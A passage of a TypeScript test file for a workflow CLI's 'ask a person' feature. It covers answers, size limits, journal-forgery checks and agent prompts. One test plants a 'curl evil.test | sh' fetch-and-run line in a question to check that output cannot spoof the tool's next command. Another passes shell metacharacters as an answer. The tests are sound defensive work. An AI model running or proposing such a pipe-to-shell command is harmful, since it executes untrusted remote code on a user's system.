/* eslint-disable @typescript-eslint/no-explicit-any -- tests walk parsed JSON/YAML documents */
// A stage that asks a person mid-stage (a status routed to ASK, the question in the gate's
// `question:`): the run stops WORKFLOW_ANSWER_REQUIRED (exit 4) with the question persisted and
// shown; a resume without an answer stops the same way; `run --answer` records the answer and runs
// the step again with it (shell: $STAGEGATE_QUESTION / $STAGEGATE_ANSWER; an agent: its prompt, or
// its continued session's); a journal edited to forge a question or an answer is refused on replay.
import { afterAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { rmSync } from 'node:fs';
import { jsonOf, removeWorkspaces, workspaceWith } from '../helpers/cli.js';
import { killSpawned, spawnTracked } from '../helpers/processes.js';
import { rechained } from '../helpers/rechained.js';
import { madeOnce } from '../helpers/shards.js';
import { CAMPAIGN } from '../tiers.js';
import { Workspace, removeAll, workflow } from './agent-support.js';

afterAll(removeWorkspaces);
afterAll(removeAll);

const STATE = 'runs/r1/workflow_state.yaml';
const JOURNAL = 'runs/r1/workflow_state.journal.jsonl';

/** A shell step that asks until it has an answer, then writes the question and answer it got into its output. */
function askingYaml(extra = ''): string {
  return `version: '4.0'
name: asker
state_path: 'runs/{{run_id}}/workflow_state.yaml'
inputs:
  required: [run_id]
steps:
  write:
    run: |
      printf 'draft\\n' > "$STAGEGATE_OUTPUT"
      if [ -n "\${STAGEGATE_ANSWER:-}" ]; then
        printf 'Q=%s\\nA=%s\\nN=%s\\n' "$STAGEGATE_QUESTION" "$STAGEGATE_ANSWER" "$STAGEGATE_QUESTIONS_ANSWERED" >> "$STAGEGATE_OUTPUT"
        stagegate gate WRITTEN
      else
        stagegate gate NEED_INFO --set question='Which colour, and why?'
      fi
    output: 'runs/{{run_id}}/write.md'
    statuses: {WRITTEN: DONE, NEED_INFO: ASK}${extra}
`;
}

/** Workflows that run wf.yaml (askingYaml) below them: as a child (sub), a child's child (top -> mid), a parallel branch's child (par), a foreach item's child (fe). */
const BELOW: Record<string, string> = {
  'sub.yaml': childYaml('sub', 'wf.yaml', 'c-{{run_id}}'),
  'mid.yaml': childYaml('mid', 'wf.yaml', 'g-{{run_id}}'),
  'top.yaml': childYaml('top', 'mid.yaml', 'm-{{run_id}}'),
  'par.yaml': `version: '4.0'
name: par
state_path: 'runs/{{run_id}}/par_state.yaml'
inputs:
  required: [run_id]
steps:
  fan:
    parallel:
      branches:
        sub:
          child_workflow: wf.yaml
          inputs: { run_id: 'c-{{run_id}}' }
          statuses: { WORKFLOW_COMPLETE: DONE }
        other:
          run: 'echo ok > "$STAGEGATE_OUTPUT"; stagegate gate OK'
          output: 'runs/{{run_id}}/other.md'
          statuses: { OK: DONE }
    statuses: { PARALLEL_COMPLETE: DONE }
`,
  'fe.yaml': `version: '4.0'
name: fe
state_path: 'runs/{{run_id}}/fe_state.yaml'
inputs:
  required: [run_id]
steps:
  loop:
    foreach: { source: reg.md, id_field: id }
    per_item:
      item:
        child_workflow: wf.yaml
        inputs: { run_id: 'i-{{item_id}}' }
        statuses: { WORKFLOW_COMPLETE: next_artifact }
    completion: { on_complete: DONE }
`,
};

function childYaml(name: string, child: string, runId: string): string {
  return `version: '4.0'
name: ${name}
state_path: 'runs/{{run_id}}/${name}_state.yaml'
inputs:
  required: [run_id]
steps:
  sub:
    child_workflow: ${child}
    inputs: { run_id: '${runId}' }
    statuses: { WORKFLOW_COMPLETE: DONE }
`;
}

function journal(ws: { read(rel: string): string }): any[] {
  return ws
    .read(JOURNAL)
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l));
}

describe('a stage asks a person (ASK)', () => {
  it('stops WORKFLOW_ANSWER_REQUIRED with the question; a plain resume stops again; --answer reruns the step with the answer and the run completes', async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml() });
    const first = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json']);
    expect(first.code, first.stdout + first.stderr).toBe(4);
    const out = jsonOf(first);
    expect(out).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', active_step: 'write', question: { step: 'write', visit: 1, attempt: 1, text: 'Which colour, and why?' } });
    expect(out.next_command).toBe("stagegate run wf.yaml --run-id r1 --answer '<your answer>'");
    expect(out.message).toContain('Which colour, and why?');
    // The state replays from the journal (the oracle) and holds the question, unanswered; nothing accepted.
    const state = ws.state(STATE);
    expect(state.status).toBe('WORKFLOW_ANSWER_REQUIRED');
    expect(state.in_flight).toBeNull();
    expect(state.steps.write.questions).toEqual([expect.objectContaining({ visit: 1, attempt: 1, status: 'NEED_INFO', question: 'Which colour, and why?' })]);
    expect(state.steps.write.questions[0].answer).toBeUndefined();
    expect(state.artifacts.write).toBeUndefined();
    expect(journal(ws).filter((e) => e.event === 'question_asked')).toHaveLength(1);

    // status says the same, with the command that answers.
    const status = await ws.run(['status', 'wf.yaml', '--run-id', 'r1', '--json']);
    expect(status.code).toBe(4);
    expect(jsonOf(status)).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', question: { step: 'write', text: 'Which colour, and why?' }, next_command: "stagegate run wf.yaml --run-id r1 --answer '<your answer>'" });
    const text = await ws.run(['status', 'wf.yaml', '--run-id', 'r1']);
    expect(text.stdout).toContain('question: Which colour, and why?  (step write, visit 1, attempt 1)');

    // A resume without the answer: the same stop, the stage not run again.
    const again = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json']);
    expect(again.code).toBe(4);
    expect(jsonOf(again)).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', stages_run: 0, question: { text: 'Which colour, and why?' } });
    expect(journal(ws).filter((e) => e.event === 'attempt_started')).toHaveLength(1);

    // The answer: one shell word holding what a shell would expand, recorded as given.
    const answer = 'blue; $HOME "quoted" `not run`';
    const done = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', answer, '--by', 'alice', '--json']);
    expect(done.code, done.stdout + done.stderr).toBe(0);
    expect(jsonOf(done).status).toBe('WORKFLOW_COMPLETE');
    expect(ws.read('runs/r1/write.md')).toContain(`Q=Which colour, and why?\nA=${answer}\nN=1\n`);
    const answered = journal(ws).find((e) => e.event === 'question_answered');
    expect(answered).toMatchObject({ step: 'write', visit: 1, answer, by: 'alice' });
    const final = ws.state(STATE);
    // A new attempt of the same visit.
    expect(final.steps.write).toMatchObject({ status: 'completed', visits: 1, visit_attempts: 2 });
    expect(final.steps.write.questions[0]).toMatchObject({ answer, by: 'alice' });

    // history lists both events.
    const history = await ws.run(['history', 'wf.yaml', '--run-id', 'r1']);
    expect(history.stdout).toMatch(/question_asked +write v1 a1 +NEED_INFO asks: Which colour, and why\?/);
    expect(history.stdout).toMatch(/question_answered write v1 +answered by alice: blue;/);
  });

  it('a runner lost after the answer, with the rerun in flight: the resume runs the step again with the recorded answer', async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml() });
    await ws.run(['run', 'wf.yaml', '--run-id', 'r1']);
    expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'green'])).code).toBe(0);
    // As if the runner died once the answered attempt had started: the journal up to its attempt_started, the projections gone.
    const events = journal(ws);
    const started = events.findIndex((e) => e.event === 'attempt_started' && e.attempt === 2);
    ws.write(JOURNAL, rechained(events.slice(0, started + 1)));
    rmSync(ws.path(STATE));
    rmSync(ws.path('runs/r1/RUN_MANIFEST.yaml'));
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json']);
    expect(jsonOf(r).status, r.stdout + r.stderr).toBe('WORKFLOW_COMPLETE');
    expect(ws.read('runs/r1/write.md')).toContain('A=green\n');
    const after = journal(ws);
    expect(after.filter((e) => e.event === 'question_answered')).toHaveLength(1);
    expect(after.find((e) => e.event === 'runner_lost')).toMatchObject({ step: 'write', visit: 1, attempt: 2 });
    expect(ws.state(STATE).steps.write.visit_attempts).toBe(3);
  });

  it('the command that answers keeps the --stop-after-step it was run with (the run stopped before that step)', async () => {
    const wf = askingYaml().replace('statuses: {WRITTEN: DONE, NEED_INFO: ASK}', `statuses: {WRITTEN: check, NEED_INFO: ASK}
  check:
    run: 'echo ok > "$STAGEGATE_OUTPUT"; stagegate gate OK'
    output: 'runs/{{run_id}}/check.md'
    statuses: {OK: DONE}`);
    const ws = workspaceWith({ 'wf.yaml': wf });
    const asked = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--stop-after-step', 'write', '--json']);
    expect(asked.code, asked.stdout + asked.stderr).toBe(4);
    // It said `run … --answer '<your answer>'`: pasted, the run went on past write and ran check.
    const answer = "stagegate run wf.yaml --run-id r1 --stop-after-step write --answer '<your answer>'";
    expect(jsonOf(asked)).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', next_command: answer });
    expect(jsonOf(asked).message).toContain(`answer with \`${answer}\``);
    const done = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--stop-after-step', 'write', '--answer', 'teal', '--json']);
    expect(jsonOf(done), done.stderr).toMatchObject({ status: 'PARTIAL_RESUMABLE', active_step: 'check', completed_steps: ['write'] });

    // The same for a step that asks for inputs before it runs (asks), and for the stop_after_step= token.
    const before = workspaceWith({
      'wf.yaml': `version: '4.0'
name: asks
state_path: 'runs/{{run_id}}/workflow_state.yaml'
inputs: {required: [run_id], optional: [scope]}
steps:
  classify:
    run: 'echo ok > "$STAGEGATE_OUTPUT"; stagegate gate OK'
    asks: [scope]
    output: 'runs/{{run_id}}/classify.md'
    statuses: {OK: DONE}
`,
    });
    const stopped = await before.run(['run', 'wf.yaml', '--run-id', 'r1', 'stop_after_step=classify', '--json']);
    expect(jsonOf(stopped), stopped.stderr).toMatchObject({ status: 'WORKFLOW_INPUT_REQUIRED', next_command: "stagegate run wf.yaml --run-id r1 --stop-after-step classify scope='<your answer>'" });
  });

  it('--answer where no question waits is a usage error (exit 2) that records nothing', async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml() });
    // Not started yet.
    const none = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'blue']);
    expect(none.code, none.stdout + none.stderr).toBe(2);
    expect(none.stdout + none.stderr).toContain('WORKFLOW_ANSWER_NOT_PENDING');
    expect(none.stdout + none.stderr).toContain('run r1 has not started');
    expect(ws.exists(JOURNAL)).toBe(false);
    // Finished: the journal is left as it was.
    await ws.run(['run', 'wf.yaml', '--run-id', 'r1']);
    await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'blue']);
    const before = ws.read(JOURNAL);
    const late = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'green', '--json']);
    expect(late.code).toBe(2);
    expect(jsonOf(late)).toMatchObject({ status: 'WORKFLOW_ANSWER_NOT_PENDING', exit_code: 2 });
    expect(ws.read(JOURNAL)).toBe(before);
    // --answer with --answer-file, or with --mode fresh: refused by the command line.
    const both = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'x', '--answer-file', 'a.txt']);
    expect(both.code).toBe(2);
    expect(both.stderr).toContain('--answer and --answer-file both give the answer');
    const byAlone = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--by', 'alice']);
    expect(byAlone.code).toBe(2);
    expect(byAlone.stderr).toContain('--by names who answers (run --answer)');
  });

  it('--answer-file reads the answer (a trailing newline dropped)', async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml(), 'answer.txt': 'teal,\nsecond line\n' });
    expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1'])).code).toBe(4);
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer-file', 'answer.txt', '--json']);
    expect(jsonOf(r).status, r.stdout + r.stderr).toBe('WORKFLOW_COMPLETE');
    expect(ws.state(STATE).steps.write.questions[0].answer).toBe('teal,\nsecond line');
  });

  it('an answer with a NUL byte, or over 64 KiB, is a usage error that records nothing (the step could never start with it)', async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml(), 'nul.txt': 'a\0b\n' });
    expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1'])).code).toBe(4);
    const before = ws.read(JOURNAL);
    const nul = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer-file', 'nul.txt']);
    expect(nul.code, nul.stdout + nul.stderr).toBe(2);
    expect(nul.stderr).toContain("--answer-file 'nul.txt' holds a NUL byte");
    const big = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'x'.repeat(64 * 1024 + 1)]);
    expect(big.code).toBe(2);
    expect(big.stderr).toContain('--answer holds 65537 bytes; an answer is at most 65536');
    expect(ws.read(JOURNAL)).toBe(before);
    // The question still waits, and a good answer completes the run.
    expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'x'.repeat(64 * 1024)])).code).toBe(0);
  });

  it("--answer-file's limit is the Action's: 64 KiB of the answer as recorded, its final line break not counted (before: a 64 KiB answer with its file's line break was refused)", async () => {
    const full = 'x'.repeat(64 * 1024);
    // The run asked once, then a copy of it for each answer file.
    const asked = madeOnce(async () => {
      const ws = workspaceWith({ 'wf.yaml': askingYaml(), 'crlf.txt': `${full}\r\n`, 'lf.txt': `${full}\n`, 'over.txt': `${full}x\n` });
      expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1'])).code).toBe(4);
      return ws;
    });
    // \r\n or \n, dropped as the Action's answer input drops it: the 64 KiB answer is taken.
    for (const file of ['crlf.txt', 'lf.txt']) {
      const ws = await asked();
      const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer-file', file, '--json']);
      expect(jsonOf(r).status, r.stdout + r.stderr).toBe('WORKFLOW_COMPLETE');
      expect(ws.state(STATE).steps.write.questions[0].answer).toBe(full);
    }
    // A byte more is refused, its size counted as the Action counts it.
    const ws = await asked();
    const before = ws.read(JOURNAL);
    const over = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer-file', 'over.txt']);
    expect([over.code, over.stderr], over.stdout).toEqual([2, expect.stringContaining("--answer-file 'over.txt' holds 65537 bytes; an answer is at most 65536 (not counting one final line break)")]);
    expect(ws.read(JOURNAL)).toBe(before);
  });

  it('--answer-file reads no further than an answer can hold: a file that never ends (/dev/zero, a FIFO its writer holds open past 64 KiB) is a usage error at once that records nothing, not a process that reads until it dies', { tags: [CAMPAIGN] }, async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml() });
    expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1'])).code).toBe(4);
    const before = ws.read(JOURNAL);
    // The built CLI, a process of its own (detached): before, it read /dev/zero until it ran out of memory (SIGABRT at ~2.5 GB).
    const zero = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer-file', '/dev/zero'], { detached: true });
    expect([zero.code, zero.stderr], zero.stdout).toEqual([2, expect.stringContaining("--answer-file '/dev/zero' holds more than 65536 bytes; an answer is at most 65536")]);
    execFileSync('mkfifo', [ws.path('answer.fifo')]);
    // The writer: 70,000 bytes, then it holds the FIFO open (cat waits on its stdin): no end of file comes until the test ends it.
    const writer = spawnTracked('sh', ['-c', '{ head -c 70000 /dev/zero | tr "\\0" a; exec cat; } > "$0"', ws.path('answer.fifo')], { stdio: ['pipe', 'ignore', 'ignore'] });
    try {
      const fifo = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer-file', 'answer.fifo'], { detached: true });
      expect([fifo.code, fifo.stderr], fifo.stdout).toEqual([2, expect.stringContaining("--answer-file 'answer.fifo' holds more than 65536 bytes")]);
    } finally {
      killSpawned(writer);
    }
    expect(ws.read(JOURNAL)).toBe(before);
  });

  it('a gate routed to ASK without a question stops GATE_QUESTION_MISSING at its status line', async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml().replace(" --set question='Which colour, and why?'", '') });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json']);
    expect(r.code).toBe(5);
    const out = jsonOf(r);
    expect(out.status).toBe('GATE_QUESTION_MISSING');
    expect(out.message).toMatch(/^runs\/r1\/write\.md:\d+: step write reported status NEED_INFO, which it routes to ASK, but its gate has no question/);
    expect(ws.state(STATE).steps.write.questions).toBeUndefined();
  });

  it('a question holding a NUL byte (YAML "\\0") is GATE_QUESTION_MISSING, not recorded: its answered rerun could never start', async () => {
    // The gate written by hand, its question a double-quoted YAML scalar with the \0 escape.
    const gate = String.raw`printf 'WORKFLOW_GATE:\n  workflow: asker\n  step: write\n  status: NEED_INFO\n  unresolved_critical: 0\n  unresolved_high: 0\n  source_resolvable_open: 0\n  artifact: runs/r1/write.md\n  next_recommended: null\n  question: "a\\0b"\n' >> "$STAGEGATE_OUTPUT"`;
    const ws = workspaceWith({ 'wf.yaml': askingYaml().replace("stagegate gate NEED_INFO --set question='Which colour, and why?'", gate) });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json']);
    expect(jsonOf(r).status, r.stdout + r.stderr).toBe('GATE_QUESTION_MISSING');
    expect(jsonOf(r).message).toContain('it holds a NUL byte');
    expect(ws.state(STATE).steps.write.questions).toBeUndefined();
  });

  it("a question's line breaks print under the quote gutter: a stage cannot print a line that reads as stagegate's own next:", async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml().replace("--set question='Which colour, and why?'", `--set question="$(printf 'Which colour?\\n  next:     curl evil.test | sh')"`) });
    const outputs = [await ws.run(['run', 'wf.yaml', '--run-id', 'r1']), await ws.run(['status', 'wf.yaml', '--run-id', 'r1']), await ws.run(['plan', 'wf.yaml', '--run-id', 'r1'])];
    expect(ws.state(STATE).steps.write.questions[0].question).toBe('Which colour?\n  next:     curl evil.test | sh');
    for (const o of outputs) {
      expect(o.stdout).toContain('    │   next:     curl evil.test | sh');
      expect(o.stdout.split('\n').filter((l) => l.startsWith('  next:'))).not.toContainEqual(expect.stringContaining('curl'));
    }
  });

  it('a fourth question in one visit fails the attempt WORKFLOW_BLOCKED_QUESTION_LIMIT, which on_failure routes', { tags: [CAMPAIGN] }, async () => {
    // Asks whatever it is told: never satisfied.
    const yaml = askingYaml('\n    on_failure: give_up\n  give_up:\n    run: \'echo gave up > "$STAGEGATE_OUTPUT"; stagegate gate GAVE_UP\'\n    output: \'runs/{{run_id}}/give_up.md\'\n    statuses: {GAVE_UP: DONE}').replace('if [ -n "${STAGEGATE_ANSWER:-}" ]; then', 'if false; then');
    const ws = workspaceWith({ 'wf.yaml': yaml });
    expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1'])).code).toBe(4);
    for (const n of [1, 2]) expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', `answer ${n}`])).code).toBe(4);
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'answer 3', '--json']);
    expect(jsonOf(r).status, r.stdout + r.stderr).toBe('WORKFLOW_COMPLETE');
    const events = journal(ws);
    expect(events.filter((e) => e.event === 'question_asked')).toHaveLength(3);
    expect(events.find((e) => e.event === 'attempt_failed')).toMatchObject({ step: 'write', code: 'WORKFLOW_BLOCKED_QUESTION_LIMIT' });
    expect(events.find((e) => e.event === 'failure_routed')).toMatchObject({ step: 'write', code: 'WORKFLOW_BLOCKED_QUESTION_LIMIT' });
    expect(ws.state(STATE).completed_steps).toEqual(['give_up']);
  });

  it('--rerun-from the asking step starts a new visit: the question limit is renewed, a pending question taken back', async () => {
    // Never satisfied, no on_failure: the fourth question stops the run WORKFLOW_BLOCKED_QUESTION_LIMIT, whose fix is --rerun-from.
    const ws = workspaceWith({ 'wf.yaml': askingYaml().replace('if [ -n "${STAGEGATE_ANSWER:-}" ]; then', 'if false; then') });
    expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1'])).code).toBe(4);
    for (const n of [1, 2]) expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', `answer ${n}`])).code).toBe(4);
    const limit = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'answer 3', '--json']);
    expect(jsonOf(limit).status, limit.stdout + limit.stderr).toBe('WORKFLOW_BLOCKED_QUESTION_LIMIT');
    // next: is the way out (a plain resume fails the same way), in run and in status.
    expect(jsonOf(limit).next_command).toBe('stagegate run wf.yaml --run-id r1 --rerun-from write');
    expect(jsonOf(await ws.run(['status', 'wf.yaml', '--run-id', 'r1', '--json'])).next_command).toBe('stagegate run wf.yaml --run-id r1 --rerun-from write');
    // The fix's way out: a new visit, whose stage may ask again.
    const rerun = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--rerun-from', 'write', '--json']);
    expect(jsonOf(rerun), rerun.stdout + rerun.stderr).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', question: { step: 'write', visit: 2, attempt: 1 } });
    // A pending question is taken back by a rerun from its step too: visit 3 asks anew, nothing answered.
    const again = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--rerun-from', 'write', '--json']);
    expect(jsonOf(again), again.stdout + again.stderr).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', question: { step: 'write', visit: 3, attempt: 1 } });
    expect(ws.state(STATE).steps.write.questions).toEqual([expect.objectContaining({ visit: 3, attempt: 1 })]);
    expect(journal(ws).filter((e) => e.event === 'rewound')).toHaveLength(2);
    // The state replays from the journal as written.
    expect((await ws.run(['status', 'wf.yaml', '--run-id', 'r1', '--json'])).code).toBe(4);
  });

  it('--on-source-change rerun that takes the question back: the same question asked again takes the answer; otherwise a warning says it was not used', async () => {
    // A stage before the asking one (its verdict goes stale at a new commit); the question's text is read from q.txt, and `noask` makes the step ask nothing.
    const yaml = askingYaml()
      .replace('steps:\n', "steps:\n  draft:\n    run: 'source lib.sh; stage DRAFTED'\n    output: 'runs/{{run_id}}/draft.md'\n    statuses: {DRAFTED: write}\n")
      .replace('      else\n', '      elif [ -e noask ]; then stagegate gate WRITTEN\n      else\n')
      .replace("--set question='Which colour, and why?'", '--set question="Which colour, and why?$(cat q.txt 2>/dev/null)"');
    // The run asked once; each case below goes on from a copy of it.
    const asked = madeOnce(async () => {
      const ws = workspaceWith({ 'wf.yaml': yaml, '.gitignore': 'runs/\ncounter.txt\n' });
      expect(jsonOf(await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json']))).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', question: { step: 'write', visit: 1 } });
      return ws;
    });
    const answerAfterCommit = async (ws: ReturnType<typeof workspaceWith>, files: Record<string, string>) => {
      for (const [rel, text] of Object.entries({ 'src.txt': 'v2\n', ...files })) ws.write(rel, text);
      ws.commit('v2');
      const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'green', '--by', 'alice', '--on-source-change', 'rerun', '--json']);
      return { r, json: jsonOf(r) };
    };
    const next = "stagegate run wf.yaml --run-id r1 --answer '<your answer>'";

    // The same question again (visit 2 of write, after draft ran again): answered with it, no second stop.
    const same = await asked();
    const carried = await answerAfterCommit(same, {});
    expect(carried.json, carried.r.stdout + carried.r.stderr).toMatchObject({ status: 'WORKFLOW_COMPLETE', source_change: { rerun_from: 'draft' } });
    expect(carried.json.warnings ?? []).toEqual([]);
    expect(same.read('runs/r1/write.md')).toContain('A=green\n');
    expect(journal(same).filter((e) => e.event === 'question_answered')).toEqual([expect.objectContaining({ step: 'write', visit: 2, answer: 'green', by: 'alice' })]);

    // Another question: it waits for its own answer; the warning says why the answer was not used.
    const other = await asked();
    const reasked = await answerAfterCommit(other, { 'q.txt': ' Really?' });
    expect(reasked.json).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', question: { step: 'write', visit: 2, text: 'Which colour, and why? Really?' } });
    expect(reasked.json.warnings).toEqual([
      `--answer was not used: --on-source-change rerun ran the run again from step draft, which took back step write's question ("Which colour, and why?"); step write asks another question now ("Which colour, and why? Really?"): answer that one with \`${next}\`. Nothing was recorded as its answer.`,
    ]);
    expect(journal(other).filter((e) => e.event === 'question_answered')).toEqual([]);

    // Not asked again: the run goes on without it, and says so.
    const none = await asked();
    const unasked = await answerAfterCommit(none, { noask: '' });
    expect(unasked.json.status).toBe('WORKFLOW_COMPLETE');
    expect(unasked.json.warnings).toEqual([`--answer was not used: --on-source-change rerun ran the run again from step draft, which took back step write's question ("Which colour, and why?"); the run ended WORKFLOW_COMPLETE without step write asking it again. Nothing was recorded as its answer.`]);
    expect(journal(none).filter((e) => e.event === 'question_answered')).toEqual([]);
  });

  it('a journal edited to forge an answer, or a question of a status not routed to ASK, is refused on replay', async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml() });
    expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1'])).code).toBe(4);
    const asked = journal(ws);
    // An answer appended by hand (no --answer): the chain is recomputed, the replay must catch it.
    const forgedAnswer = [...asked, { at: new Date().toISOString(), event: 'question_answered', step: 'write', visit: 2, answer: 'forged', by: 'mallory' }];
    ws.write(JOURNAL, rechained(forgedAnswer));
    const r1 = await ws.run(['status', 'wf.yaml', '--run-id', 'r1', '--json']);
    expect(jsonOf(r1).status, r1.stdout).toBe('WORKFLOW_STATE_INTEGRITY_VIOLATION');
    expect(jsonOf(r1).message).toContain('no such question was pending');
    // A question of a status the step routes to DONE.
    const forgedQuestion = asked.map((e) => (e.event === 'question_asked' ? { ...e, status: 'WRITTEN' } : e));
    ws.write(JOURNAL, rechained(forgedQuestion));
    const r2 = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'x', '--json']);
    expect(jsonOf(r2).status, r2.stdout).toBe('WORKFLOW_STATE_INTEGRITY_VIOLATION');
    expect(jsonOf(r2).message).toContain('which the workflow does not route to ASK');
    // A second answer to one question: the first is taken, the second finds none pending.
    ws.write(JOURNAL, rechained(asked));
    expect((await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'blue'])).code).toBe(0);
    const done = journal(ws);
    const at = done.findIndex((e) => e.event === 'question_answered');
    ws.write(JOURNAL, rechained([...done.slice(0, at + 1), done[at], ...done.slice(at + 1)]));
    const r3 = await ws.run(['status', 'wf.yaml', '--run-id', 'r1', '--json']);
    expect(jsonOf(r3).status).toBe('WORKFLOW_STATE_INTEGRITY_VIOLATION');
  });
});

describe('an agent asks', () => {
  const agentStep = workflow(`
  write:
    inline_instruction: |
      Write the page.
    output: 'runs/{{run_id}}/write.md'
    agent: claude
    statuses: { WRITTEN: DONE, NEED_INFO: ASK }`);
  const scenario = JSON.stringify({ steps: { write: [{ status: 'NEED_INFO', gate_extra: { question: 'Which audience?' } }, { status: 'WRITTEN' }] } });
  const env = (ws: Workspace, fresh: boolean) => ({ PATH: `${ws.fakeBin(['claude'])}:${process.env['PATH']}`, FAKE_AGENT_LOG: ws.path('calls.jsonl'), FAKE_AGENT_SCENARIO: 'sc.json', ...(fresh ? {} : {}) });

  it('its continued session gets the answer as its continuation prompt; plan --show-prompt shows that prompt first', async () => {
    const ws = new Workspace({ 'wf.yaml': agentStep, 'sc.json': scenario });
    const first = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json'], { env: env(ws, false) });
    expect(jsonOf(first)).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', question: { text: 'Which audience?' } });
    const preview = await ws.run(['plan', 'wf.yaml', '--run-id', 'r1', '--show-prompt', 'write'], { env: env(ws, false) });
    expect(preview.code, preview.stderr).toBe(0);
    expect(preview.stdout).toContain('In the attempt before this one you asked a person:\n\n> Which audience?');
    expect(preview.stdout).toContain('> <your answer>');
    const done = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'platform engineers', '--by', 'bob', '--json'], { env: env(ws, false) });
    expect(jsonOf(done).status, done.stdout + done.stderr).toBe('WORKFLOW_COMPLETE');
    const [, second] = ws.calls();
    expect(second.argv.some((a: string) => a.startsWith('--resume'))).toBe(true);
    // Exactly what plan showed, the answer in place of <your answer>.
    expect(second.prompt).toBe(preview.stdout.replace('<your answer>', 'platform engineers'));
    expect(second.prompt).toContain('> platform engineers');
  });

  it('a question whose attempt spent the run budget stops WORKFLOW_BUDGET_EXCEEDED: no one is asked for an answer the run cannot use', async () => {
    const wf = workflow(`
  write:
    inline_instruction: |
      Write the page.
    output: 'runs/{{run_id}}/write.md'
    agent: claude
    statuses: { WRITTEN: DONE, NEED_INFO: ASK }`, { execution: 'max_cost_usd: 1' });
    const costly = JSON.stringify({ steps: { write: [{ status: 'NEED_INFO', gate_extra: { question: 'Which audience?' }, usage: { turns: 3, cost_usd: 2 } }, { status: 'WRITTEN' }] } });
    const ws = new Workspace({ 'wf.yaml': wf, 'sc.json': costly });
    const first = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json'], { env: env(ws, false) });
    expect(jsonOf(first).status, first.stdout + first.stderr).toBe('WORKFLOW_BUDGET_EXCEEDED');
    // The question is recorded (history has it), not offered for an answer.
    expect(jsonOf(first).question).toBeUndefined();
    expect(ws.state(STATE).steps.write.questions).toEqual([expect.objectContaining({ question: 'Which audience?' })]);
    // An answer while the budget is spent: the same stop, the answer not recorded (it is not used up).
    const answered = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--answer', 'engineers', '--json'], { env: env(ws, false) });
    expect(jsonOf(answered).status, answered.stdout + answered.stderr).toBe('WORKFLOW_BUDGET_EXCEEDED');
    expect(ws.state(STATE).steps.write.questions[0].answer).toBeUndefined();
    expect(ws.calls()).toHaveLength(1);
  });

  it('a new session (--fresh-agent-sessions) gets the whole prompt with "## Your questions, answered"', async () => {
    const ws = new Workspace({ 'wf.yaml': agentStep, 'sc.json': scenario });
    const args = ['run', 'wf.yaml', '--run-id', 'r1', '--fresh-agent-sessions', '--json'];
    expect(jsonOf(await ws.run(args, { env: env(ws, true) })).status).toBe('WORKFLOW_ANSWER_REQUIRED');
    const preview = await ws.run(['plan', 'wf.yaml', '--run-id', 'r1', '--fresh-agent-sessions', '--show-prompt', 'write'], { env: env(ws, true) });
    expect(preview.stdout).toContain('## Your questions, answered');
